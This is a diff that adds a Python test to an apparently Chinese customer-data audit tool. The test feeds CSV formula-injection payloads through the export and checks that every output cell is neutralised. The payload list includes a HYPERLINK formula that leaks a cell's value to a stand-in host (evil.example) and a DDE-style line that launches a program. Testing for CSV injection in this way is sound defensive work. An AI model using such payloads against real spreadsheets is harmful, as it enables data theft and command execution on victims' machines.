@@ -58,3 +58,24 @@ def test_users_add_and_list_and_demo_users_once(home, capsys):
     store = Store.open()
     assert store.verify_password("demo_agent", dict((u, p) for u, _, p in created)["demo_agent"]).role == "agent"
     assert main(["users", "add", "zhang", "--role", "agent", "--password", "x-another-1"]) == 1
+
+
+def test_audit_out_goes_through_the_export_module_and_neutralises_formulas(home, capsys):
+    import csv as csvmod
+    import io
+
+    payloads = ['=HYPERLINK("http://evil.example/?leak="&A2,"点这里")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+                "\n=1+1", "x;=1+1", "＝1+1"]
+    lines = ["客户编号,客户类型,姓名,出生日期,证件类型,证件号码"]
+    lines += [f'"{p.replace(chr(34), chr(34) * 2)}",个人,张三,1980-02-30,居民身份证,110105198002300010'
+              for p in payloads]
+    src = home / "inject.csv"
+    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = home / "findings.csv"
+    assert main(["audit", str(src), "--on", "2026-06-30", "--out", str(out)]) == 0
+    raw = out.read_bytes().decode("utf-8-sig")
+    rows = list(csvmod.reader(io.StringIO(raw, newline="")))
+    cells = [c for r in rows for c in r]
+    assert len(rows) > len(payloads)  # every client has findings
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
+    assert "'=HYPERLINK" in raw and '"x;=1+1"' in raw
